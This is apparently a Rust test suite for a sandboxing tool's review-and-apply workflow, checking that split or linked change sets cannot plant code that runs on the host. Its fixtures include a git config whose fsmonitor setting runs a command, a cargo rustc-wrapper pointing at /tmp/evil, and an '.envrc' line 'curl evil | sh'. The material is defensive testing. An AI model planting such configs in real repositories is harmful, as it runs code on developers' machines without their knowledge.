//! Review ergonomics under attack (issue 31, item 8, the red team's second pass): what a
//! partial apply, `diff` and `discard` did with change sets that each look harmless alone.
//! Each attack has its control.

#![allow(clippy::expect_used)]

use std::path::Path;

use attacks::review::review;
use attacks::{sh_quote, Cmd, Fixture};

/// The exit status of an apply that left flagged entries pending.
const APPLIED_PARTLY: i32 = 3;

/// A git config that runs `touch MARKER` when host git reads the status.
fn fsmonitor_config(marker: &Path) -> String {
    format!(
        "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = \\\"touch {}; false\\\"\\n",
        marker.display()
    )
}

/// Host git's `git status` in `dir` (what a git-aware prompt runs on `cd`).
fn host_git_status(fx: &Fixture, dir: &Path) {
    // The fixture's host command: a root caller's, whose container command is the workspace's
    // owner, trusts that user's checkout (`safe.directory`), as the control needs.
    let _ = fx
        .host(&format!(
            "cd {} && git status --short",
            attacks::sh_quote(dir)
        ))
        .run();
}

/// Two review change sets of one workspace, each plain on its own: run A writes `sub/HEAD`
/// and a `sub/config` with `core.fsmonitor`, run B makes `sub/objects` and `sub/refs`. A
/// applies (nothing is a git dir yet); B would complete a git dir whose config runs code when
/// host git runs in `sub/`: its `objects` and `refs` are held, flagged `git-internals`, and
/// `--all-or-nothing` refuses. Control: the same entries accepted make the git dir, and host
/// git runs the config's command.
#[test]
fn two_plain_change_sets_cannot_assemble_a_git_dir() {
    let fx = Fixture::without_git();
    let marker = fx.out_file("fsmonitor-ran");
    let a_script = format!(
        "mkdir sub && printf 'ref: refs/heads/main\\n' > sub/HEAD && printf \"{}\" > sub/config",
        fsmonitor_config(&marker)
    );
    let (run, a) = review(&fx, &[], &a_script);
    run.assert_success();
    let a = a.expect("change set A");
    let (run, b) = review(&fx, &[], "mkdir -p sub/objects sub/refs/heads");
    run.assert_success();
    let b = b.expect("change set B");

    fx.stockade(["apply", &a]).run().assert_success();
    assert!(fx.ws.join("sub/config").exists());

    let all = fx.stockade(["apply", &b, "--all-or-nothing"]).run();
    all.assert_code(125)
        .assert_stderr_contains("E_CHANGES_FLAGGED")
        .assert_stderr_contains("git-internals")
        .assert_stderr_contains("sub/objects");
    assert!(!fx.ws.join("sub/objects").exists());

    let partly = fx.stockade(["apply", &b]).run();
    partly
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("pending  sub/objects")
        .assert_stdout_contains("pending  sub/refs\n")
        .assert_stdout_contains("git-internals");
    assert!(!fx.ws.join("sub/objects").exists());
    assert!(!fx.ws.join("sub/refs").exists());
    host_git_status(&fx, &fx.ws.join("sub"));
    assert!(
        !marker.exists(),
        "host git ran the assembled config: {}",
        partly.describe()
    );

    // Control: accepted, the two halves make a git dir and host git runs its config.
    fx.stockade(["apply", &b, "--accept", "sub"])
        .run()
        .assert_success();
    assert!(fx.ws.join("sub/refs/heads").is_dir());
    host_git_status(&fx, &fx.ws.join("sub"));
    assert!(marker.exists(), "control: host git did not run the config");
}

/// A review change set writes `src/HEAD` and a `src/config` with `core.fsmonitor` into a
/// plain `src/`; a direct run then makes `src/objects` and `src/refs` (allowed: no git dir on
/// the host yet). Applying the change set would complete the git dir: both entries are
/// flagged and the apply refused (nothing else to write). Control: accepted, host git runs
/// the config.
#[test]
fn a_change_set_cannot_complete_a_git_dir_a_direct_run_began() {
    let fx = Fixture::new();
    std::fs::create_dir(fx.ws.join("src")).expect("mkdir src");
    std::fs::write(fx.ws.join("src/main.c"), "int main(){}\n").expect("write");
    let marker = fx.out_file("fsmonitor-ran");
    let script = format!(
        "printf 'ref: refs/heads/main\\n' > src/HEAD && printf \"{}\" > src/config",
        fsmonitor_config(&marker)
    );
    let (run, id) = review(&fx, &[], &script);
    run.assert_success();
    let id = id.expect("a pending change set");
    std::thread::sleep(std::time::Duration::from_millis(50));
    fx.sandbox(
        &[],
        "mkdir -p src/objects src/refs/heads && echo DIRECT-MADE",
    )
    .run()
    .assert_success()
    .assert_stdout_contains("DIRECT-MADE");

    let refused = fx.stockade(["apply", &id]).run();
    refused
        .assert_code(125)
        .assert_stderr_contains("E_CHANGES_FLAGGED")
        .assert_stderr_contains("src/config")
        .assert_stderr_contains("git-internals");
    assert!(!fx.ws.join("src/HEAD").exists());
    assert!(!fx.ws.join("src/config").exists());
    host_git_status(&fx, &fx.ws.join("src"));
    assert!(!marker.exists(), "{}", refused.describe());

    // Control: accepted, the git dir is complete and host git runs its config.
    fx.stockade(["apply", &id, "--accept-flagged"])
        .run()
        .assert_success();
    host_git_status(&fx, &fx.ws.join("src"));
    assert!(
        marker.exists(),
        "control: host git did not run the config ({})",
        sh_quote(&marker)
    );
}

/// A held `Makefile` holds only `include rules.txt`; the recipe is in `rules.txt`, a plain
/// file the partial apply writes at once. The reviewer reading what is left must see
/// `rules.txt` too: `diff` (and `--stat`) list it after the pending entries, marked applied
/// earlier, and the apply says the held entries may depend on what it applied. Control:
/// before the apply, `diff` shows both as pending.
#[test]
fn the_diff_of_a_partly_applied_change_set_shows_what_was_applied() {
    let fx = Fixture::without_git();
    let script = "printf 'include rules.txt\\n' > Makefile; printf 'all:\\n\\t@touch payload-ran\\n' > rules.txt";
    let (run, id) = review(&fx, &[], script);
    run.assert_success();
    let id = id.expect("a pending change set");

    // Control: nothing applied yet, both pending, no "applied earlier".
    fx.stockade(["diff", &id])
        .run()
        .assert_success()
        .assert_stdout_contains("+++ b/Makefile")
        .assert_stdout_contains("+++ b/rules.txt")
        .assert_lacks("applied earlier");

    fx.stockade(["apply", &id])
        .run()
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("written  rules.txt")
        .assert_stdout_contains("pending  Makefile")
        .assert_stdout_contains("may depend on the ones just applied");
    assert!(fx.ws.join("rules.txt").exists());

    let diff = fx.stockade(["diff", &id]).run();
    diff.assert_success()
        .assert_stdout_contains("+++ b/Makefile")
        .assert_stdout_contains("applied earlier: rules.txt")
        .assert_stdout_contains("+\t@touch payload-ran");
    fx.stockade(["diff", &id, "--stat"])
        .run()
        .assert_success()
        .assert_stdout_contains(" Makefile ")
        .assert_stdout_contains(" rules.txt | (applied earlier) 2 ++");
}

fn store(fx: &Fixture) -> std::path::PathBuf {
    fx.home.join(".local/state/stockade/changes")
}

fn is_root() -> bool {
    std::fs::metadata("/proc/self")
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0)
        .unwrap_or(false)
}

/// A run closes a directory it made (`chmod 555 d`, a file inside): its owner cannot empty
/// it, so its change set could not be removed. `discard --all` removes it and the change sets
/// after it; `discard RUN` removes one; an apply of all of it ends in 0 and removes it; a
/// change set whose record an earlier removal cut short (no `meta.json`) is removed by
/// `discard RUN`. Control (a regular user): the same upper resists a plain recursive removal
/// (root passes every mode: the control is n/a there, the discards still checked).
#[test]
fn a_directory_the_run_closed_does_not_make_its_change_set_undiscardable() {
    let fx = Fixture::without_git();
    let closing = "mkdir d && echo x > d/f.txt && chmod 555 d";
    let ids: Vec<String> = ["echo 1 > one.txt", closing, "echo 3 > three.txt"]
        .iter()
        .map(|s| {
            let (run, id) = review(&fx, &[], s);
            run.assert_success();
            id.expect("a pending change set")
        })
        .collect();
    let closed = store(&fx).join(&ids[1]).join("upper/d");
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::symlink_metadata(&closed)
            .expect("the closed directory")
            .permissions(),
    );
    assert_eq!(mode & 0o777, 0o555);
    if !is_root() {
        // Control: a plain removal of the upper fails on the closed directory.
        let copy = fx.out_file("closed-copy");
        std::fs::create_dir_all(copy.join("d")).expect("mkdir");
        std::fs::write(copy.join("d/f.txt"), "x").expect("write");
        std::fs::set_permissions(
            copy.join("d"),
            std::os::unix::fs::PermissionsExt::from_mode(0o555),
        )
        .expect("chmod");
        assert!(std::fs::remove_dir_all(&copy).is_err(), "control: removed");
    }

    let all = fx.stockade(["discard", "--all"]).run();
    all.assert_success()
        .assert_stdout_contains("3 change sets of");
    for id in &ids {
        assert!(
            !store(&fx).join(id).exists(),
            "{id} left: {}",
            all.describe()
        );
    }

    // One at a time.
    let (_, id) = review(&fx, &[], closing);
    let id = id.expect("a pending change set");
    fx.stockade(["discard", &id])
        .run()
        .assert_success()
        .assert_stdout_contains("discarded");
    assert!(!store(&fx).join(&id).exists());

    // Applied whole: written, then removed, exit 0.
    let (_, id) = review(&fx, &[], closing);
    let id = id.expect("a pending change set");
    fx.stockade(["apply", &id, "--accept-flagged"])
        .run()
        .assert_success()
        .assert_stdout_contains("applied whole and removed");
    assert!(!store(&fx).join(&id).exists());
    assert!(fx.ws.join("d/f.txt").exists());

    // A record cut short: `discard RUN` still removes it.
    let (_, id) = review(&fx, &[], "echo 4 > four.txt");
    let id = id.expect("a pending change set");
    std::fs::remove_file(store(&fx).join(&id).join("meta.json")).expect("rm meta.json");
    fx.stockade(["runs"])
        .run()
        .assert_stdout_contains("unreadable");
    fx.stockade(["discard", &id]).run().assert_success();
    assert!(!store(&fx).join(&id).exists());
}

fn mode_of(path: &Path) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(
        &std::fs::symlink_metadata(path).expect("stat").permissions(),
    ) & 0o7777
}

/// The run makes `d/` with a flagged `d/Makefile` and closes `d` (`chmod 500`). The partial
/// apply writes `d` and `d/notes.txt` and keeps `d` open to its owner while the Makefile is
/// held; `--accept d/Makefile` then writes it and gives `d` its 500. Control: `d` closed as
/// the run left it (what the partial apply did before), a regular user's `--accept` fails
/// (root writes through the mode: n/a there).
#[test]
fn a_partial_apply_does_not_close_a_directory_over_held_entries() {
    let script = "mkdir d && printf 'all:\\n\\t@echo hi\\n' > d/Makefile && echo x > d/notes.txt && chmod 500 d";
    let fx = Fixture::without_git();
    let (run, id) = review(&fx, &[], script);
    run.assert_success();
    let id = id.expect("a pending change set");
    fx.stockade(["apply", &id])
        .run()
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("written  d/notes.txt")
        .assert_stdout_contains("pending  d/Makefile");
    assert_eq!(mode_of(&fx.ws.join("d")), 0o700);
    fx.stockade(["apply", &id, "--accept", "d/Makefile"])
        .run()
        .assert_success()
        .assert_stdout_contains("written  d/Makefile")
        .assert_stdout_contains("applied whole and removed");
    assert!(fx.ws.join("d/Makefile").exists());
    assert_eq!(mode_of(&fx.ws.join("d")), 0o500);

    if !is_root() {
        // Control: closed over the held entry, the accept cannot write it.
        let fx = Fixture::without_git();
        let (_, id) = review(&fx, &[], script);
        let id = id.expect("a pending change set");
        fx.stockade(["apply", &id])
            .run()
            .assert_code(APPLIED_PARTLY);
        std::fs::set_permissions(
            fx.ws.join("d"),
            std::os::unix::fs::PermissionsExt::from_mode(0o500),
        )
        .expect("chmod");
        fx.stockade(["apply", &id, "--accept", "d/Makefile"])
            .run()
            .assert_code(125);
        assert!(!fx.ws.join("d/Makefile").exists());
        std::fs::set_permissions(
            fx.ws.join("d"),
            std::os::unix::fs::PermissionsExt::from_mode(0o700),
        )
        .expect("chmod");
    }
}

/// "Applied in part" has an exit status of its own (3): 2 is clap's usage error, and a
/// script telling them apart must not take a mistyped flag for a partial apply. Control: the
/// mistyped flag exits 2 and writes nothing.
#[test]
fn applied_in_part_is_not_a_usage_error() {
    let fx = Fixture::without_git();
    let (run, id) = review(
        &fx,
        &[],
        "echo a > a.txt && printf 'all:\\n\\ttrue\\n' > Makefile",
    );
    run.assert_success();
    let id = id.expect("a pending change set");
    fx.stockade(["apply", &id, "--all-or-nthing"])
        .run()
        .assert_code(2);
    assert!(!fx.ws.join("a.txt").exists());
    fx.stockade(["apply", &id])
        .run()
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("applied in part");
    assert_eq!(APPLIED_PARTLY, 3);
    assert!(fx.ws.join("a.txt").exists());
}

/// An apply that fails part way (`b/` not writable by its owner: `b/c.txt` fails after
/// `a.txt` was written) names on stdout what it wrote before the error, which exits 125.
/// Control: with `b/` writable the same apply writes both. A regular user's attack: root
/// writes through the mode (n/a there, one line). `--everywhere --workspace` together are
/// refused as conflicting flags (exit 2), nothing discarded.
#[test]
fn an_apply_failing_part_way_says_what_it_wrote() {
    let fx = Fixture::without_git();
    std::fs::write(fx.ws.join("a.txt"), "old\n").expect("write");
    std::fs::create_dir(fx.ws.join("b")).expect("mkdir");
    std::fs::write(fx.ws.join("b/c.txt"), "old\n").expect("write");
    let (run, id) = review(&fx, &[], "echo new > a.txt; echo new > b/c.txt");
    run.assert_success();
    let id = id.expect("a pending change set");

    fx.stockade([
        "discard",
        "--all",
        "--everywhere",
        "--workspace",
        &fx.ws.display().to_string(),
    ])
    .run()
    .assert_code(2)
    .assert_stderr_contains("cannot be used with");
    assert!(store(&fx).join(&id).exists());

    if is_root() {
        eprintln!("skip (part way): root writes through the mode, the failure cannot be made so");
    } else {
        let set = |m: u32| {
            std::fs::set_permissions(
                fx.ws.join("b"),
                std::os::unix::fs::PermissionsExt::from_mode(m),
            )
            .expect("chmod")
        };
        set(0o555);
        let failed = fx.stockade(["apply", &id]).run();
        set(0o755);
        failed
            .assert_code(125)
            .assert_stdout_contains("before it failed: 1 entry written")
            .assert_stdout_contains("written  a.txt")
            .assert_stderr_contains("b/c.txt");
        assert_eq!(
            std::fs::read_to_string(fx.ws.join("a.txt")).ok().as_deref(),
            Some("new\n")
        );
    }
    // Control: nothing in the way, both written.
    fx.stockade(["apply", &id])
        .run()
        .assert_success()
        .assert_stdout_contains("written  b/c.txt");
}

/// A run opens a private directory (0700) holding a masked secret (`.env`) to every local
/// user (`chmod 755`): the mode change is flagged `opens-masked` and not applied unaccepted,
/// the directory stays 0700. Control: the same chmod on a directory with nothing masked below
/// is plain and applied.
#[test]
fn a_mode_change_opening_a_directory_above_a_masked_path_is_flagged() {
    let fx = Fixture::without_git();
    for d in ["private", "open"] {
        std::fs::create_dir(fx.ws.join(d)).expect("mkdir");
        std::fs::set_permissions(
            fx.ws.join(d),
            std::os::unix::fs::PermissionsExt::from_mode(0o700),
        )
        .expect("chmod");
    }
    std::fs::write(fx.ws.join("private/.env"), "API_KEY=hostsecret\n").expect("write");
    std::fs::write(fx.ws.join("open/notes.txt"), "x\n").expect("write");
    let (run, id) = review(&fx, &[], "chmod 755 private open && echo CHMODDED");
    run.assert_success().assert_stdout_contains("CHMODDED");
    let id = id.expect("a pending change set");
    fx.stockade(["changes", &id])
        .run()
        .assert_success()
        .assert_stdout_contains("flagged [opens-masked]");
    fx.stockade(["apply", &id])
        .run()
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("pending  private")
        .assert_stdout_contains("written  open");
    assert_eq!(mode_of(&fx.ws.join("private")), 0o700);
    // Control: nothing masked below, the same widening is applied.
    assert_eq!(mode_of(&fx.ws.join("open")), 0o755);
}

/// Control for the git-dir assembly check: in a git checkout, a change set writing a
/// `config` and a `HEAD` into a directory that is no git dir (no `objects`, `refs` or
/// `commondir` there, now or from the apply) is plain and applied whole.
#[test]
fn files_named_like_git_internals_elsewhere_stay_plain() {
    let fx = Fixture::new();
    std::fs::create_dir(fx.ws.join("deploy")).expect("mkdir");
    let (run, id) = review(
        &fx,
        &[],
        "echo 'port = 8080' > deploy/config && echo main > deploy/HEAD && mkdir -p deploy/objects-list && echo a > notes.txt",
    );
    run.assert_success();
    let id = id.expect("a pending change set");
    fx.stockade(["apply", &id])
        .run()
        .assert_success()
        .assert_stdout_contains("written  deploy/config")
        .assert_stdout_contains("written  deploy/HEAD")
        .assert_stdout_contains("applied whole and removed");
}

/// `discard --all` goes on past a change set it cannot remove (an immutable file in its
/// upper, `chattr +i`: what root alone can make) and names it at the end, exit 125; the
/// others are removed. Control: made mutable again, `discard RUN` removes it. Root only (a
/// regular user cannot set the attribute: one line).
#[test]
fn discard_all_goes_on_past_a_change_set_it_cannot_remove() {
    if !is_root() {
        eprintln!("skip: only root can make a file immutable (chattr +i)");
        return;
    }
    let fx = Fixture::without_git();
    let ids: Vec<String> = ["echo 1 > one.txt", "echo 2 > two.txt", "echo 3 > three.txt"]
        .iter()
        .map(|s| {
            let (run, id) = review(&fx, &[], s);
            run.assert_success();
            id.expect("a pending change set")
        })
        .collect();
    let stuck = store(&fx).join(&ids[1]).join("upper/two.txt");
    let chattr = |flag: &str| {
        Cmd::new("chattr", &fx.ws)
            .args([flag, &stuck.display().to_string()])
            .run()
            .assert_success();
    };
    chattr("+i");
    let all = fx.stockade(["discard", "--all"]).run();
    chattr("-i");
    all.assert_code(125)
        .assert_stdout_contains("2 change sets of")
        .assert_stderr_contains("1 change set could not be discarded")
        .assert_stderr_contains(&ids[1]);
    assert!(!store(&fx).join(&ids[0]).exists());
    assert!(!store(&fx).join(&ids[2]).exists());
    assert!(
        store(&fx).join(&ids[1]).join("meta.json").exists(),
        "the record goes last"
    );
    fx.stockade(["discard", &ids[1]]).run().assert_success();
    assert!(!store(&fx).join(&ids[1]).exists());
}

/// A `--protect` glob the creation guard cannot express (`a/**/b.sh`, `sweep_only` in
/// `policy show --json`) is checked by a direct run's sweep only. Under `--review` nothing
/// sweeps the view: the change set records the glob and flags what it matches, or lies below
/// a match, `protected`; `apply` holds them and writes the plain file beside. Controls: a
/// direct run's sweep quarantines the same file; accepted by name, the apply writes it.
#[test]
fn a_sweep_only_glob_made_in_a_view_is_held_by_apply() {
    let fx = Fixture::without_git();
    let protect = ["--protect", "a/**/b.sh"];
    let script = "mkdir -p a/x a/y/b.sh && echo 'echo pwned' > a/x/b.sh && \
                  echo 'echo pwned' > a/y/b.sh/inner.sh && echo plain > plain.txt";

    // Control: a direct run's sweep takes a/x/b.sh out of the workspace.
    let direct = fx.sandbox(&protect, script).run();
    direct.assert_stderr_contains("a/x/b.sh");
    assert!(!fx.ws.join("a/x/b.sh").exists(), "{}", direct.describe());
    let _ = std::fs::remove_dir_all(fx.ws.join("a"));
    let _ = std::fs::remove_dir_all(fx.ws.join(".stockade"));
    let _ = std::fs::remove_file(fx.ws.join("plain.txt"));

    let (run, id) = review(&fx, &protect, script);
    run.assert_success();
    let id = id.expect("a pending change set");
    let listed = attacks::review::entries(&fx, &id);
    for path in ["a/x/b.sh", "a/y/b.sh", "a/y/b.sh/inner.sh"] {
        let e = listed
            .iter()
            .find(|e| e["path"] == path)
            .unwrap_or_else(|| panic!("{path} not listed: {listed:?}"));
        assert!(
            attacks::review::codes(e).contains(&"protected".to_string()),
            "{path}: {e}"
        );
    }
    let plain = listed
        .iter()
        .find(|e| e["path"] == "plain.txt")
        .expect("plain.txt");
    assert!(attacks::review::codes(plain).is_empty(), "{plain}");

    let partly = fx.stockade(["apply", &id]).run();
    partly
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("written  plain.txt")
        .assert_stdout_contains("pending  a/x/b.sh")
        .assert_stdout_contains("creation guard cannot express");
    assert!(!fx.ws.join("a/x/b.sh").exists(), "{}", partly.describe());
    assert!(!fx.ws.join("a/y/b.sh/inner.sh").exists());
    assert!(fx.ws.join("plain.txt").exists());

    // Control: accepted by name, the apply writes it (the flag is what held it).
    fx.stockade(["apply", &id, "--accept", "a/x/b.sh"])
        .run()
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("written  a/x/b.sh");
    assert!(
        fx.ws.join("a/x/b.sh").exists(),
        "control: a/x/b.sh not written"
    );
}

/// A protected path that is a dangling link on the host (`.cargo/config.toml ->
/// ../cfg.toml`, `.envrc -> envrc.real`): a review run writes the links' targets. The change
/// set records where each protected link leads and flags what is made there `protected`;
/// `apply` holds both, and the host's `.cargo/config.toml` still leads nowhere. Controls: a
/// direct run's sweep quarantines the links ("a protected link was replaced"); accepted by
/// name, the apply writes `cfg.toml` and the host's cargo config reads the run's content.
#[test]
fn a_dangling_protected_link_gets_no_target_through_apply() {
    let fx = Fixture::without_git();
    let links = || {
        let _ = std::fs::remove_dir_all(fx.ws.join(".cargo"));
        let _ = std::fs::remove_dir_all(fx.ws.join(".stockade"));
        for f in ["cfg.toml", "envrc.real", ".envrc", "plain.txt"] {
            let _ = std::fs::remove_file(fx.ws.join(f));
        }
        std::fs::create_dir(fx.ws.join(".cargo")).expect("mkdir .cargo");
        std::os::unix::fs::symlink("../cfg.toml", fx.ws.join(".cargo/config.toml")).expect("link");
        std::os::unix::fs::symlink("envrc.real", fx.ws.join(".envrc")).expect("link");
    };
    let script = "printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > cfg.toml && \
                  echo 'curl evil | sh' > envrc.real && echo plain > plain.txt";
    let cargo_config = fx.ws.join(".cargo/config.toml");
    let reads_evil =
        || std::fs::read_to_string(&cargo_config).is_ok_and(|s| s.contains("rustc-wrapper"));

    // Control: a direct run's sweep takes the links out.
    links();
    let direct = fx.sandbox(&[], script).run();
    direct.assert_stderr_contains("a protected link was replaced");
    assert!(!reads_evil(), "{}", direct.describe());

    links();
    let (run, id) = review(&fx, &[], script);
    run.assert_success();
    let id = id.expect("a pending change set");
    let partly = fx.stockade(["apply", &id]).run();
    partly
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("written  plain.txt")
        .assert_stdout_contains("pending  cfg.toml")
        .assert_stdout_contains("pending  envrc.real")
        .assert_stdout_contains("protected link");
    assert!(!fx.ws.join("cfg.toml").exists(), "{}", partly.describe());
    assert!(!fx.ws.join("envrc.real").exists());
    assert!(!reads_evil());

    // Control: accepted by name, the host's cargo config reads what the run wrote.
    fx.stockade(["apply", &id, "--accept", "cfg.toml"])
        .run()
        .assert_code(APPLIED_PARTLY)
        .assert_stdout_contains("written  cfg.toml");
    assert!(
        reads_evil(),
        "control: .cargo/config.toml does not read cfg.toml"
    );
}

/// The host makes a protected link after the review run, before `apply`
/// (`.cargo/config.toml -> ../cfg.toml`): the run saw none, so the change set's record flags
/// nothing, but `apply` checks the workspace's protected links as they are then and holds
/// `cfg.toml`. Control: a second, identical change set applied with no such link writes it.
#[test]
fn a_protected_link_made_after_the_run_holds_its_target_at_apply() {
    let fx = Fixture::without_git();
    let script = "printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > cfg.toml";
    let (run, a) = review(&fx, &[], script);
    run.assert_success();
    let a = a.expect("change set A");
    let (run, b) = review(&fx, &[], script);
    run.assert_success();
    let b = b.expect("change set B");
    let listed = attacks::review::entries(&fx, &a);
    assert!(
        listed.iter().all(|e| attacks::review::codes(e).is_empty()),
        "no link at the run: nothing flagged {listed:?}"
    );

    std::fs::create_dir(fx.ws.join(".cargo")).expect("mkdir .cargo");
    let link = fx.ws.join(".cargo/config.toml");
    std::os::unix::fs::symlink("../cfg.toml", &link).expect("link");
    let refused = fx.stockade(["apply", &a]).run();
    refused
        .assert_code(125)
        .assert_stderr_contains("E_CHANGES_FLAGGED")
        .assert_stderr_contains("cfg.toml");
    assert!(!fx.ws.join("cfg.toml").exists(), "{}", refused.describe());

    // Control: without the link, the same change set is written.
    std::fs::remove_file(&link).expect("rm link");
    fx.stockade(["apply", &b]).run().assert_success();
    assert!(
        fx.ws.join("cfg.toml").exists(),
        "control: cfg.toml not written"
    );
}
